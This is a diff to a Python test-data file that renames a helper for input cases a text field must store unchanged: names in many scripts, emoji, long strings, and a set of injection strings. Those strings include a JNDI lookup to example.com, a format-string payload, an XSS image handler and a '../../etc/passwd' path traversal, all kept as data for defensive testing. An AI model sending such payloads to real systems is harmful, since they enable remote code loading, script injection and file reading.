@@ -3,7 +3,7 @@
 from tests.attacks.shapes import OneLine
 
 
-def _kept(name: str, value: str) -> OneLine:
+def _stored(name: str, value: str) -> OneLine:
     return OneLine(name, value, value)
 
 
@@ -13,39 +13,39 @@ def _refused(name: str, value: str) -> OneLine:
 
 LINES: tuple[OneLine, ...] = (
     # Names of people and companies
-    _kept("a Georgian name", "ნინო ბერიძე"),
-    _kept("an Armenian name", "Արամ Խաչատրյան"),
-    _kept("a Thai name", "สมชาย ใจดี"),
-    _kept("a Tamil name", "தமிழ்ச்செல்வி"),
-    _kept("an Amharic name", "ሃይሌ ገብረሥላሴ"),
-    _kept("a Sinhala name with a joiner", "ශ්\u200dරී ලංකා"),
-    _kept("a Marathi name with a non-joiner", "श्री\u200cमती जोशी"),
-    _kept("a Khmer name with spaces of no width between words", "សុខ\u200bសុភា"),
-    _kept("a Mongolian name with a separator of vowels", "ᠮᠣᠩᠭᠣᠯ\u180eᠠ"),
-    _kept("a name beyond the first plane", "\U00020bb7野家"),
-    _kept("an ideograph in a chosen variant", "葛\U000e0100城市"),
-    _kept("an Adlam name", "\U0001e900\U0001e924\U0001e925"),
-    _kept("an okina", "Keʻalohi Kānaka"),
-    _kept("a typographic apostrophe and a long dash", "L’Oréal — Paris"),
-    _kept("a right-to-left mark beside Arabic", "شركة\u200f (ABC)"),
-    _kept("narrow and wide spaces within", "Société\u202fGénérale\u2003SA"),
+    _stored("a Georgian name", "ნინო ბერიძე"),
+    _stored("an Armenian name", "Արամ Խաչատրյան"),
+    _stored("a Thai name", "สมชาย ใจดี"),
+    _stored("a Tamil name", "தமிழ்ச்செல்வி"),
+    _stored("an Amharic name", "ሃይሌ ገብረሥላሴ"),
+    _stored("a Sinhala name with a joiner", "ශ්\u200dරී ලංකා"),
+    _stored("a Marathi name with a non-joiner", "श्री\u200cमती जोशी"),
+    _stored("a Khmer name with spaces of no width between words", "សុខ\u200bសុភា"),
+    _stored("a Mongolian name with a separator of vowels", "ᠮᠣᠩᠭᠣᠯ\u180eᠠ"),
+    _stored("a name beyond the first plane", "\U00020bb7野家"),
+    _stored("an ideograph in a chosen variant", "葛\U000e0100城市"),
+    _stored("an Adlam name", "\U0001e900\U0001e924\U0001e925"),
+    _stored("an okina", "Keʻalohi Kānaka"),
+    _stored("a typographic apostrophe and a long dash", "L’Oréal — Paris"),
+    _stored("a right-to-left mark beside Arabic", "شركة\u200f (ABC)"),
+    _stored("narrow and wide spaces within", "Société\u202fGénérale\u2003SA"),
     OneLine("wide and unbreaking spaces around a name", "\u00a0\u3000 山田\u3000太郎 \u2003", "山田\u3000太郎"),
     OneLine("a space before a formula", " -1+1 ", "-1+1"),
     # Emoji
-    _kept("the flag of Scotland, in tags", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"),
-    _kept("a rainbow flag", "\U0001f3f3\ufe0f\u200d\U0001f308 Pride Ltd"),
-    _kept("a key with a number", "No. 1\ufe0f\u20e3"),
-    _kept("a thumb of a colour", "\U0001f44d\U0001f3fd"),
+    _stored("the flag of Scotland, in tags", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"),
+    _stored("a rainbow flag", "\U0001f3f3\ufe0f\u200d\U0001f308 Pride Ltd"),
+    _stored("a key with a number", "No. 1\ufe0f\u20e3"),
+    _stored("a thumb of a colour", "\U0001f44d\U0001f3fd"),
     # As long as may be
-    _kept("two hundred characters, half of them marks", "e\u0301" * 100),
-    _kept("two hundred ideographs", "明" * 200),
+    _stored("two hundred characters, half of them marks", "e\u0301" * 100),
+    _stored("two hundred ideographs", "明" * 200),
     # Texts that other programs might obey
-    _kept("a lookup", "${jndi:ldap://example.com/a}"),
-    _kept("marks of a format", "%s%n%(name)s {0}"),
-    _kept("backslashes that spell a line break", "Dana\\r\\nReyes \\u0000"),
-    _kept("an image with a handler", '"><img src=x onerror=alert(1)>'),
-    _kept("a word for nothing", "null"),
-    _kept("a path upwards", "../../etc/passwd"),
+    _stored("a lookup", "${jndi:ldap://example.com/a}"),
+    _stored("marks of a format", "%s%n%(name)s {0}"),
+    _stored("backslashes that spell a line break", "Dana\\r\\nReyes \\u0000"),
+    _stored("an image with a handler", '"><img src=x onerror=alert(1)>'),
+    _stored("a word for nothing", "null"),
+    _stored("a path upwards", "../../etc/passwd"),
     # Line breaks and controls
     _refused("a carriage return", "Miriam\rVasić"),
     _refused("a form feed", "Miriam\x0cVasić"),
